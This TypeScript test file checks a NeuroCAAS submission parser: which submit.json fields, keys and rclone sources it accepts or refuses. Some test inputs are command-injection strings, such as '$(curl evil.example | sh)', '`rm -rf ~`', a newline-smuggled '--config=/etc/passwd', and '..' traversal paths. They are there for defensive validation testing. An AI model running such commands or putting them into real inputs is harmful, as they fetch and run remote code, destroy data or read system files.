import { readdirSync, readFileSync } from 'node:fs';
import * as path from 'node:path';

import { parseSubmission, type SubmissionResult } from '../../lib/submission/parse-submission';
import { renderProblems } from '../../lib/submission/problems-text';
import { testAnalysis } from './analysis';

const analysis = testAnalysis();
const KEY = 'lab/submissions/run1submit.json';
const FIXTURES = path.join(__dirname, '..', 'fixtures', 'neurocaas', 'submissions');

const VALID = {
  dataname: 'lab/inputs/session1.zip',
  configname: 'lab/configs/config.yaml',
  timestamp: '04_29_20',
};

/** A submit.json body: the valid one with some fields replaced (undefined removes a field). */
const submit = (changes: Record<string, unknown> = {}): string => {
  const body: Record<string, unknown> = { ...VALID, ...changes };
  for (const [field, value] of Object.entries(changes)) if (value === undefined) delete body[field];
  return JSON.stringify(body);
};

const parse = (body: Uint8Array | string, key = KEY, config = analysis): SubmissionResult =>
  parseSubmission({ body, key, analysis: config });

const accepted = (result: SubmissionResult) => {
  if (!result.ok) throw new Error(`expected acceptance, got:\n${JSON.stringify(result.problems, null, 2)}`);
  return result;
};

const refused = (result: SubmissionResult) => {
  if (result.ok) throw new Error(`expected a refusal, got ${JSON.stringify(result.submission)}`);
  return result;
};

describe('NeuroCAAS submissions (real fixtures)', () => {
  const files = readdirSync(FIXTURES).filter((f) => f.endsWith('.json'));

  test('the fixtures are present', () => {
    expect(files.sort()).toEqual([
      'caiman_web_stack_test_submit.json',
      'submissions_condition_0_0submit.json',
      'submissions_condition_2_3submit.json',
    ]);
  });

  test.each(files)('%s is accepted', (file) => {
    const body = readFileSync(path.join(FIXTURES, file));
    const raw = JSON.parse(body.toString('utf8')) as {
      dataname: string;
      configname: string;
      timestamp: string;
    };
    const group = raw.dataname.split('/')[0];
    const key = `${group}/submissions/${file}`;
    const { submission, warnings } = accepted(parse(body, key));
    expect(submission).toEqual({
      group,
      jobId: raw.timestamp,
      datasetKeys: [raw.dataname],
      configKey: raw.configname,
      instanceType: 'm5.xlarge',
      submissionKey: key,
    });
    if ('exitcode' in raw)
      expect(warnings).toEqual(['submit.json key "exitcode" is not used here and was ignored']);
  });

  test('a folder dataset from the fixtures keeps its trailing slash', () => {
    const body = readFileSync(path.join(FIXTURES, 'submissions_condition_2_3submit.json'));
    const { submission } = accepted(parse(body, 'traviscipermagroup/submissions/condition_2_3submit.json'));
    expect(submission.datasetKeys).toEqual(['traviscipermagroup/inputs/datasets/']);
    expect(submission.jobId).toBe('16:52:06.841212condition_2_3');
  });
});

describe('accepted submissions', () => {
  test('the plain form', () => {
    expect(accepted(parse(submit())).submission).toEqual({
      group: 'lab',
      jobId: '04_29_20',
      datasetKeys: ['lab/inputs/session1.zip'],
      configKey: 'lab/configs/config.yaml',
      instanceType: 'm5.xlarge',
      submissionKey: KEY,
    });
  });

  test('a timestamp with ":" and "." (NeuroCAAS form) and inner spaces', () => {
    expect(accepted(parse(submit({ timestamp: '16:52:06.836494condition_2_3' }))).submission.jobId).toBe(
      '16:52:06.836494condition_2_3',
    );
    expect(accepted(parse(submit({ timestamp: '2020-04-29 16:52:06' }))).submission.jobId).toBe(
      '2020-04-29 16:52:06',
    );
  });

  test('a numeric timestamp becomes its text, with a warning', () => {
    const result = accepted(parse(submit({ timestamp: 42929 })));
    expect(result.submission.jobId).toBe('42929');
    expect(result.warnings).toEqual(['timestamp was the number 42929; it is used as the text "42929"']);
    expect(
      accepted(parse('{"dataname":"lab/inputs/a","configname":"lab/configs/c","timestamp":4.5}')).submission
        .jobId,
    ).toBe('4.5');
  });

  test('a timestamp of exactly 100 characters', () => {
    expect(accepted(parse(submit({ timestamp: 't'.repeat(100) }))).submission.jobId).toHaveLength(100);
  });

  test('extra keys are ignored with a warning, not refused', () => {
    const result = accepted(
      parse(submit({ exitcode: 99, comment: 'from the web form', nested: { a: [1] } })),
    );
    expect(result.warnings).toEqual([
      'submit.json key "exitcode" is not used here and was ignored',
      'submit.json key "comment" is not used here and was ignored',
      'submit.json key "nested" is not used here and was ignored',
    ]);
  });

  test('a folder dataname is one dataset', () => {
    expect(accepted(parse(submit({ dataname: 'lab/inputs/session1/' }))).submission.datasetKeys).toEqual([
      'lab/inputs/session1/',
    ]);
  });

  test('a list of datanames: one dataset each, in order, up to the limit', () => {
    const keys = [
      'lab/inputs/a.zip',
      'lab/inputs/b/',
      'lab/inputs/c/x.zip',
      'lab/inputs/d.zip',
      'lab/inputs/e.zip',
    ];
    expect(accepted(parse(submit({ dataname: keys }))).submission.datasetKeys).toEqual(keys);
    expect(accepted(parse(submit({ dataname: ['lab/inputs/a.zip'] }))).submission.datasetKeys).toEqual([
      'lab/inputs/a.zip',
    ]);
  });

  test.each([
    'lab/inputs/my session 1.zip',
    'lab/inputs/it\'s "best".zip',
    'lab/inputs/`rm -rf ~`.zip',
    'lab/inputs/$(curl evil.example | sh).zip',
    'lab/inputs/a;b&&c|d>e<f*?.zip',
    'lab/inputs/données été/ünïcode.tif',
    'lab/inputs/.../x.zip',
    'lab/inputs/.hidden',
    'lab/inputs/ leading and trailing space.zip ',
  ])('the valid key %p is accepted verbatim', (key) => {
    const { submission } = accepted(
      parse(submit({ dataname: key, configname: `lab/configs/${key.slice(11)}` })),
    );
    expect(submission.datasetKeys).toEqual([key]);
    expect(submission.configKey).toBe(`lab/configs/${key.slice(11)}`);
  });

  test("a key of exactly 1024 bytes (in a deep folder: the job's own keys use only its base name)", () => {
    const key = `lab/inputs/${'a'.repeat(1024 - 'lab/inputs/'.length - '/x.bin'.length)}/x.bin`;
    expect(accepted(parse(submit({ dataname: key }))).submission.datasetKeys).toEqual([key]);
  });

  test('a UTF-8 byte order mark is tolerated, as bytes and as text', () => {
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(submit(), 'utf8')]);
    expect(accepted(parse(bytes)).submission.jobId).toBe('04_29_20');
    expect(accepted(parse(`\uFEFF${submit()}`)).submission.jobId).toBe('04_29_20');
  });

  test('a Uint8Array view into a larger buffer is decoded from its own bytes', () => {
    const inner = Buffer.from(submit(), 'utf8');
    const outer = Buffer.concat([Buffer.from('garbage'), inner, Buffer.from('trailing')]);
    const view = new Uint8Array(outer.buffer, outer.byteOffset + 7, inner.length);
    expect(accepted(parse(view)).submission.group).toBe('lab');
  });

  test('instance_type: an allowed one is used; without one the EC2 default; for Batch none', () => {
    expect(accepted(parse(submit({ instance_type: 'p3.2xlarge' }))).submission.instanceType).toBe(
      'p3.2xlarge',
    );
    expect(accepted(parse(submit())).submission.instanceType).toBe('m5.xlarge');
    const batch = testAnalysis({ runtime: 'batch', ec2: undefined });
    expect(accepted(parse(submit(), KEY, batch)).submission.instanceType).toBeUndefined();
  });

  test('a submission in a subfolder of submissions/', () => {
    expect(accepted(parse(submit(), 'lab/submissions/2024/run1submit.json')).submission.group).toBe('lab');
  });
});

interface Case {
  readonly name: string;
  readonly body: Uint8Array | string;
  readonly key?: string;
  readonly field: string;
  readonly says: readonly string[];
}

const manyDatasets = Array.from({ length: 6 }, (_, i) => `lab/inputs/d${i}.zip`);
const invalidUtf8 = Buffer.concat([
  Buffer.from('{"dataname": "lab/inputs/'),
  Buffer.from([0xc3, 0x28]),
  Buffer.from('"}'),
]);
const oversize = submit({ comment: 'x'.repeat(1024 * 1024) });

const CASES: readonly Case[] = [
  { name: 'not JSON', body: 'dataname: lab/inputs/x', field: 'submit.json', says: ['not valid JSON'] },
  {
    name: 'JSON with a missing comma names the line',
    body: '{\n  "dataname": "lab/inputs/x.zip"\n  "configname": "lab/configs/c.yaml"\n}',
    field: 'submit.json',
    says: ['not valid JSON', 'line 3'],
  },
  {
    name: 'cut-off JSON',
    body: '{"dataname": "lab/inputs/x.zip", ',
    field: 'submit.json',
    says: ['ends too early'],
  },
  {
    name: 'JSON without its closing brace',
    body: '{"dataname": "x"\n',
    field: 'submit.json',
    says: ['ends too early, at line 1'],
  },
  { name: 'empty body', body: '', field: 'submit.json', says: ['submit.json is empty'] },
  { name: 'blank body', body: ' \n\t ', field: 'submit.json', says: ['submit.json is empty'] },
  {
    name: 'array body',
    body: '[{"dataname": "lab/inputs/x"}]',
    field: 'submit.json',
    says: ['holds a list of 1 item'],
  },
  { name: 'null body', body: 'null', field: 'submit.json', says: ['holds null'] },
  {
    name: 'string body',
    body: '"lab/inputs/x.zip"',
    field: 'submit.json',
    says: ['holds the text "lab/inputs/x.zip"'],
  },
  {
    name: 'number body',
    body: '42',
    field: 'submit.json',
    says: ['holds the number 42', 'one object in braces'],
  },
  { name: 'invalid UTF-8', body: invalidUtf8, field: 'submit.json', says: ['not UTF-8 text'] },
  {
    name: 'more than 1 MiB',
    body: oversize,
    field: 'submit.json',
    says: ['1.0 MiB', 'the limit is 1.0 MiB'],
  },
  {
    name: 'missing dataname',
    body: submit({ dataname: undefined }),
    field: 'dataname',
    says: ['has no "dataname"'],
  },
  { name: 'empty dataname list', body: submit({ dataname: [] }), field: 'dataname', says: ['empty list'] },
  {
    name: 'dataname a number',
    body: submit({ dataname: 3 }),
    field: 'dataname',
    says: ['dataname must be a key (text) like "lab/inputs/session1.zip"', 'got the number 3'],
  },
  {
    name: 'dataname an object',
    body: submit({ dataname: { key: 'lab/inputs/x' } }),
    field: 'dataname',
    says: ['got an object'],
  },
  {
    name: 'a number inside the dataname list',
    body: submit({ dataname: ['lab/inputs/a.zip', 'lab/inputs/b.zip', 3] }),
    field: 'dataname[2]',
    says: ['dataname[2] must be a key (text) like "lab/inputs/session1.zip", got the number 3'],
  },
  { name: 'empty dataname', body: submit({ dataname: '' }), field: 'dataname', says: ['dataname is empty'] },
  {
    name: 'dataname ../x',
    body: submit({ dataname: '../x' }),
    field: 'dataname',
    says: ['contains a ".." folder'],
  },
  {
    name: 'dataname stepping out and into another group',
    body: submit({ dataname: 'lab/../lab2/inputs/x' }),
    field: 'dataname',
    says: ['"lab/../lab2/inputs/x" contains a ".." folder'],
  },
  {
    name: 'dataname with a "." segment',
    body: submit({ dataname: 'lab/inputs/./x.zip' }),
    field: 'dataname',
    says: ['contains a "." folder'],
  },
  {
    name: 'dataname of another group (lab2 is not lab)',
    body: submit({ dataname: 'lab2/inputs/x' }),
    field: 'dataname',
    says: [
      'dataname "lab2/inputs/x" is in group "lab2", but this submission was uploaded by group "lab"',
      'lab/inputs/',
    ],
  },
  {
    name: 'dataname of a group that only shares a prefix',
    body: submit({ dataname: ['lab/inputs/ok.zip', 'laboratory/inputs/x'] }),
    field: 'dataname[1]',
    says: ['is in group "laboratory"'],
  },
  {
    name: 'absolute dataname',
    body: submit({ dataname: '/lab/inputs/x' }),
    field: 'dataname',
    says: ['starts with "/"', 'e.g. "lab/inputs/x"'],
  },
  {
    name: 's3:// dataname',
    body: submit({ dataname: 's3://bucket/lab/inputs/x' }),
    field: 'dataname',
    says: ['is a URL', "plain keys in this analysis's bucket", 'write just "lab/inputs/x"'],
  },
  {
    name: 'https dataname',
    body: submit({ dataname: 'https://example.org/data.zip' }),
    field: 'dataname',
    says: ['is a URL', 'copied under lab/inputs/'],
  },
  {
    name: 'empty segment',
    body: submit({ dataname: 'lab//inputs/x' }),
    field: 'dataname',
    says: ['empty folder name ("//")'],
  },
  {
    name: 'backslash',
    body: submit({ dataname: 'lab\\inputs\\x.zip' }),
    field: 'dataname',
    says: ['backslash', '"lab/inputs/x.zip"'],
  },
  {
    name: 'control character',
    body: submit({ dataname: 'lab/inputs/a\u0007.zip' }),
    field: 'dataname',
    says: ['the control character U+0007'],
  },
  {
    name: 'line break in a key',
    body: submit({ dataname: 'lab/inputs/a\nb.zip' }),
    field: 'dataname',
    says: ['"lab/inputs/a\\nb.zip" contains a line break'],
  },
  {
    name: 'broken character in a key',
    body: '{"dataname": "lab/inputs/\\ud800.zip", "configname": "lab/configs/c.yaml", "timestamp": "t1"}',
    field: 'dataname',
    says: ['broken character'],
  },
  {
    name: 'key longer than 1024 bytes',
    body: submit({ dataname: `lab/inputs/${'é'.repeat(507)}` }),
    field: 'dataname',
    says: ['1025 bytes long', 'at most 1024 bytes'],
  },
  {
    name: 'key outside any folder',
    body: submit({ dataname: 'session1.zip' }),
    field: 'dataname',
    says: ['is not inside any folder', '"lab/inputs/session1.zip"'],
  },
  {
    name: 'dataname outside inputs/',
    body: submit({ dataname: 'lab/results/job__mock_1/process_results/x.npy' }),
    field: 'dataname',
    says: ['is not in lab/inputs/'],
  },
  {
    name: 'dataname naming all of inputs/',
    body: submit({ dataname: 'lab/inputs/' }),
    field: 'dataname',
    says: ['names the whole lab/inputs/ folder'],
  },
  {
    name: 'configname a folder',
    body: submit({ configname: 'lab/configs/' }),
    field: 'configname',
    says: ['ends in "/", which names a folder'],
  },
  {
    name: 'configname of another group',
    body: submit({ configname: 'lab2/configs/c.yaml' }),
    field: 'configname',
    says: ['configname "lab2/configs/c.yaml" is in group "lab2"', 'upload the config under lab/configs/'],
  },
  {
    name: 'configname outside configs/',
    body: submit({ configname: 'lab/inputs/config.yaml' }),
    field: 'configname',
    says: ['is not in lab/configs/'],
  },
  {
    name: 'configname null',
    body: submit({ configname: null }),
    field: 'configname',
    says: ['configname must be a key (text) like "lab/configs/config.yaml", got null'],
  },
  {
    name: 'missing configname',
    body: submit({ configname: undefined }),
    field: 'configname',
    says: ['has no "configname"'],
  },
  {
    name: 'missing timestamp',
    body: submit({ timestamp: undefined }),
    field: 'timestamp',
    says: ['has no "timestamp"'],
  },
  {
    name: 'timestamp true',
    body: submit({ timestamp: true }),
    field: 'timestamp',
    says: ['got the value true'],
  },
  {
    name: 'timestamp Infinity',
    body: submit().replace('"04_29_20"', '1e400'),
    field: 'timestamp',
    says: ['the number Infinity'],
  },
  {
    name: 'empty timestamp',
    body: submit({ timestamp: '' }),
    field: 'timestamp',
    says: ['timestamp is empty'],
  },
  { name: 'blank timestamp', body: submit({ timestamp: '   ' }), field: 'timestamp', says: ['only spaces'] },
  {
    name: 'timestamp with /',
    body: submit({ timestamp: '04/29/20' }),
    field: 'timestamp',
    says: ['contains "/"', 'one folder name'],
  },
  { name: 'timestamp ..', body: submit({ timestamp: '..' }), field: 'timestamp', says: ['contains ".."'] },
  {
    name: 'timestamp too long',
    body: submit({ timestamp: 'x'.repeat(101) }),
    field: 'timestamp',
    says: ['101 characters long', 'at most 100'],
  },
  {
    name: 'timestamp with a line break',
    body: submit({ timestamp: 'run\n1' }),
    field: 'timestamp',
    says: ['a line break'],
  },
  {
    name: 'timestamp with a trailing space',
    body: submit({ timestamp: 'run1 ' }),
    field: 'timestamp',
    says: ['space'],
  },
  {
    name: 'instance_type not allowed',
    body: submit({ instance_type: 'x1e.32xlarge' }),
    field: 'instance_type',
    says: ['"x1e.32xlarge" is not offered', 'choose one of m5.xlarge, p3.2xlarge', 'default (m5.xlarge)'],
  },
  {
    name: 'instance_type a number',
    body: submit({ instance_type: 4 }),
    field: 'instance_type',
    says: ['instance_type must be text', 'm5.xlarge, p3.2xlarge', 'got the number 4'],
  },
  {
    name: 'resultpath present',
    body: submit({ resultpath: 's3://otherbucket/results/' }),
    field: 'resultpath',
    says: ['resultpath is not accepted', 'lab/results/job__mock_04_29_20/', 'Remove "resultpath"'],
  },
  {
    name: 'too many datasets',
    body: submit({ dataname: manyDatasets }),
    field: 'dataname',
    says: ['lists 6 datasets', 'at most 5'],
  },
  {
    name: 'duplicate datanames',
    body: submit({ dataname: ['lab/inputs/a.zip', 'lab/inputs/a.zip'] }),
    field: 'dataname[1]',
    says: ['"lab/inputs/a.zip" repeats dataname[0]'],
  },
  {
    name: 'submission key of an unknown group',
    body: submit(),
    key: 'strangers/submissions/run1submit.json',
    field: 'group',
    says: ['group "strangers"', 'is not a group of analysis "mock"'],
  },
  {
    name: 'submission key of a group that may not submit',
    body: submit({ dataname: 'viewers/inputs/x', configname: 'viewers/configs/c.yaml' }),
    key: 'viewers/submissions/run1submit.json',
    field: 'group',
    says: ['group "viewers" may not submit jobs', 'UserInput'],
  },
  {
    name: 'submission key with no group',
    body: submit(),
    key: 'submit.json',
    field: 'group',
    says: ['not inside a group'],
  },
  {
    name: 'submission key outside submissions/',
    body: submit(),
    key: 'lab/inputs/submit.json',
    field: 'submission key',
    says: ['submissions go in lab/submissions/'],
  },
];

describe('refused submissions: nothing launches, the field is named, the message says what to do', () => {
  test('the table holds at least 30 distinct cases', () => {
    expect(new Set(CASES.map((c) => c.name)).size).toBe(CASES.length);
    expect(CASES.length).toBeGreaterThanOrEqual(30);
  });

  test.each(CASES)('$name', ({ body, key, field, says }) => {
    const result = refused(parse(body, key ?? KEY));
    const problem = result.problems.find((p) => p.field === field);
    expect(problem).toBeDefined();
    for (const words of says) expect(problem?.message).toContain(words);
    for (const p of result.problems) {
      expect(p.message).not.toMatch(/Invalid input|expected string|received|\n\s+at |Error:/);
    }
    const text = renderProblems(key ?? KEY, result.problems);
    expect(text).toContain('was not accepted');
    expect(text).toContain('Nothing was launched');
  });
});

describe('every problem is reported at once', () => {
  test('six problems in one submission', () => {
    const body = JSON.stringify({
      dataname: ['lab2/inputs/x.zip', 7, 'lab/inputs/ok.zip', 'lab/inputs/ok.zip'],
      configname: 'lab/configs/',
      timestamp: '04/29/20',
      instance_type: 'p4d.24xlarge',
      resultpath: 'elsewhere',
    });
    const result = refused(parse(body));
    expect(result.problems.map((p) => p.field).sort()).toEqual(
      [
        'configname',
        'dataname[0]',
        'dataname[1]',
        'dataname[3]',
        'instance_type',
        'resultpath',
        'timestamp',
      ].sort(),
    );
    expect(result.jobId).toBeUndefined();
  });

  test('a bad group and bad fields together', () => {
    const result = refused(
      parse(submit({ dataname: 'lab/inputs/x', timestamp: '' }), 'strangers/submissions/s.json'),
    );
    expect(result.problems.map((p) => p.field)).toEqual(['group', 'dataname', 'configname', 'timestamp']);
    expect(result.problems[1].message).toContain(
      'is in group "lab", but this submission was uploaded by group "strangers"',
    );
  });

  test('a body problem still reports the group problem', () => {
    const result = refused(parse('nope', 'viewers/submissions/s.json'));
    expect(result.problems.map((p) => p.field)).toEqual(['group', 'submit.json']);
  });
});

describe('jobId on refusal: where the caller writes the message', () => {
  test('set when the timestamp is valid and the group may submit', () => {
    expect(refused(parse(submit({ instance_type: 'nope' }))).jobId).toBe('04_29_20');
    expect(refused(parse(submit({ dataname: 'lab2/inputs/x', timestamp: 12 }))).jobId).toBe('12');
  });

  test('absent when the timestamp is missing or unsafe', () => {
    expect(refused(parse(submit({ timestamp: undefined, dataname: 3 }))).jobId).toBeUndefined();
    expect(refused(parse(submit({ timestamp: '../../x' }))).jobId).toBeUndefined();
    expect(refused(parse('not json')).jobId).toBeUndefined();
  });

  test('absent when the group may not submit (no results folder to write to)', () => {
    expect(refused(parse(submit(), 'strangers/submissions/s.json')).jobId).toBeUndefined();
    expect(refused(parse(submit(), 'viewers/submissions/s.json')).jobId).toBeUndefined();
  });
});

describe('instance types when the analysis offers none', () => {
  test('any requested instance_type is refused with the reason', () => {
    const fixed = testAnalysis({ limits: { ...analysis.limits, allowedInstanceTypes: [] } });
    const result = refused(parse(submit({ instance_type: 'm5.xlarge' }), KEY, fixed));
    expect(result.problems[0].message).toContain('does not let a submission pick the instance type');
  });
});

describe('rclone datasets: `rclone:<remote>:<path>` for a group with an rclone configuration', () => {
  const withRemote = testAnalysis({
    runtime: 'batch',
    groups: [
      { name: 'lab', userNames: [], userEmails: [], userInput: true, rcloneConfigSecret: 'ncaas/rclone/lab' },
      { name: 'lab2', userNames: [], userEmails: [], userInput: true },
    ],
    remoteSources: { image: 'registry.example.org/rclone-sh:1' },
  });
  const parseRemote = (dataname: unknown, key = KEY) =>
    parse(submit({ dataname, configname: `${key.split('/')[0]}/configs/config.yaml` }), key, withRemote);
  const problemOf = (dataname: unknown, key = KEY) => {
    const { problems } = refused(parseRemote(dataname, key));
    expect(problems).toHaveLength(1);
    return problems[0];
  };

  test.each([
    'rclone:labdrive:recordings/session 1.nwb',
    'rclone:lab_drive.v2:a/b/',
    'rclone:gdrive:it\'s "odd" $(touch pwned); `x` & y.csv',
    'rclone:s3-archive:/absolute/on/sftp.bin',
    'rclone:r:file:with:colons.csv',
    'rclone:r:-starts-with-dash.csv',
  ])('%s is accepted verbatim', (dataname) => {
    expect(accepted(parseRemote(dataname)).submission.datasetKeys).toEqual([dataname]);
  });

  test('rclone datasets and keys mix in one list, each checked by its own rules', () => {
    const { submission } = accepted(parseRemote(['rclone:labdrive:a.nwb', 'lab/inputs/b.nwb']));
    expect(submission.datasetKeys).toEqual(['rclone:labdrive:a.nwb', 'lab/inputs/b.nwb']);
    const { problems } = refused(parseRemote(['rclone:labdrive:a.nwb', 'rclone:-x:a', 'lab2/inputs/b']));
    expect(problems.map((p) => p.field)).toEqual(['dataname[1]', 'dataname[2]']);
  });

  test('a group without an rclone configuration is told what to do instead', () => {
    const problem = problemOf('rclone:labdrive:a.nwb', 'lab2/submissions/xsubmit.json');
    expect(problem.field).toBe('dataname');
    expect(problem.message).toMatch(
      /names an rclone remote, but group "lab2" has no rclone configuration in analysis "mock": upload the data under lab2\/inputs\/ .*RemoteSources.Groups/,
    );
  });

  test('an analysis without RemoteSources refuses rclone datasets the same way', () => {
    const { problems } = refused(parse(submit({ dataname: 'rclone:labdrive:a.nwb' })));
    expect(problems).toEqual([
      { field: 'dataname', message: expect.stringMatching(/group "lab" has no rclone configuration/) },
    ]);
  });

  test.each<[string, string, RegExp]>([
    ['no remote', 'rclone:a.nwb', /has no remote: write rclone:<remote>:<path>/],
    ['an empty remote name', 'rclone::a.nwb', /empty remote name/],
    ['a remote name starting with "-" (an rclone flag)', 'rclone:--config:a.nwb', /not starting with "-"/],
    ['a remote name "-"', 'rclone:-:x', /not starting with "-"/],
    ['a remote name with a space', 'rclone:lab drive:a.nwb', /remote names here are letters, digits/],
    ['a remote name with a slash', 'rclone:lab/drive:a.nwb', /remote names here are letters, digits/],
    ['a remote name with a quote', "rclone:lab'x:a.nwb", /remote names here are letters, digits/],
    ['no path', 'rclone:labdrive:', /names the whole remote "labdrive"/],
    ['only a slash', 'rclone:labdrive:/', /names the whole remote/],
    ['a newline in the path', 'rclone:labdrive:a\n--config=/etc/passwd', /contains a line break/],
    ['a carriage return', 'rclone:labdrive:a\r.nwb', /contains a carriage return/],
    ['a tab', 'rclone:labdrive:a\t.nwb', /contains a tab/],
    ['a NUL byte', 'rclone:labdrive:a\u0000.nwb', /control character U\+0000/],
    ['an escape character', 'rclone:labdrive:\u001b[31ma.nwb', /control character U\+001B/],
    ['a DEL character', 'rclone:labdrive:a\u007f', /control character U\+007F/],
    ['half a UTF-16 pair', 'rclone:labdrive:a\ud800.nwb', /broken character/],
    ['a ".." folder', 'rclone:labdrive:data/../../secret.nwb', /contains a "\.\." folder/],
    ['a ".." last segment', 'rclone:labdrive:data/..', /contains a "\.\." folder/],
    ['a "." folder', 'rclone:labdrive:./a.nwb', /contains a "\." folder/],
    ['an empty folder name', 'rclone:labdrive:a//b.nwb', /empty folder name/],
    [
      'too long',
      `rclone:labdrive:${'a'.repeat(1100)}`,
      /bytes long, but an rclone source may be at most 1024 bytes/,
    ],
  ])('%s is refused, naming dataname', (_name, dataname, message) => {
    const problem = problemOf(dataname);
    expect(problem.field).toBe('dataname');
    expect(problem.message).toMatch(message);
  });

  test('a list names the item: dataname[i]', () => {
    const problem = problemOf(['lab/inputs/a.nwb', 'rclone:labdrive:../x']);
    expect(problem).toEqual({
      field: 'dataname[1]',
      message: expect.stringMatching(/^dataname\[1\] "rclone:labdrive:\.\.\/x"/),
    });
  });

  test('repeated rclone datasets are refused as repeated keys are', () => {
    expect(problemOf(['rclone:labdrive:a.nwb', 'rclone:labdrive:a.nwb']).message).toMatch(
      /repeats dataname\[0\]/,
    );
  });

  test('something that only looks like it ("RCLONE:", "rclone" without a colon) is a key, checked as a key', () => {
    expect(problemOf('RCLONE:labdrive:a.nwb').message).toMatch(/is not inside any folder/);
    expect(problemOf('rclone/labdrive/a.nwb').message).toMatch(/is in group "rclone"/);
  });
});

describe('job ids and derived keys that would break a job', () => {
  test('a timestamp starting with "dev-" is refused: those folders are `ncaas dev run`\'s', () => {
    const { problems, jobId } = refused(parse(submit({ timestamp: 'dev-1700000000-ab12' })));
    expect(jobId).toBeUndefined();
    expect(problems).toEqual([
      {
        field: 'timestamp',
        message:
          'timestamp "dev-1700000000-ab12" starts with "dev-", which is kept for `ncaas dev run`\'s test runs: choose a timestamp that does not start with "dev-"',
      },
    ]);
    // Only the prefix: "dev" elsewhere is fine.
    expect(accepted(parse(submit({ timestamp: 'device-dev-1' }))).submission.jobId).toBe('device-dev-1');
  });

  test("a dataset whose status and log keys would pass S3's 1,024-byte limit is refused, naming the key", () => {
    // The dataset key itself fits (1,000 bytes); the job's final report for it would not.
    const name = `${'x'.repeat(1000 - 'lab/inputs/'.length - '.bin'.length)}.bin`;
    const { problems } = refused(parse(submit({ dataname: `lab/inputs/${name}` })));
    expect(problems).toHaveLength(1);
    expect(problems[0]?.field).toBe('dataname');
    expect(problems[0]?.message).toMatch(
      /^the job would write "lab\/results\/job__mock_04_29_20\/logs\/DATASET_NAME:x+…" for this dataset, a key of 1056 bytes, but S3 keys are at most 1024 bytes: use a shorter timestamp or shorter folder and file names$/,
    );
  });

  test("with several datasets, each one's results folder counts too, and the field names the dataset", () => {
    const long = `lab/inputs/${'y'.repeat(700)}.bin`;
    const { problems } = refused(
      parse(
        submit({
          dataname: ['lab/inputs/short.bin', long],
          configname: `lab/configs/${'c'.repeat(300)}.yaml`,
        }),
      ),
    );
    expect(problems.map((p) => p.field)).toEqual(['dataname[1]']);
    expect(problems[0]?.message).toMatch(
      /^the job would write "lab\/results\/job__mock_04_29_20\/process_results\/y+…" for this dataset, a key of 1\d{3} bytes/,
    );
  });
});

test('a group the blueprint does not have is refused naming its groups and the near match', () => {
  const { problems } = refused(
    parse(
      submit({ dataname: 'LAB/inputs/a.zip', configname: 'LAB/configs/c.yaml' }),
      'LAB/submissions/run1submit.json',
    ),
  );
  expect(problems[0]).toEqual({
    field: 'group',
    message: expect.stringMatching(
      /^group "LAB" \(the first folder of "LAB\/submissions\/run1submit\.json"\) is not a group of analysis "mock": did you mean "lab"\? \(group names are case-sensitive; its groups: .*"lab", "lab2".*\)$/,
    ) as string,
  });
});
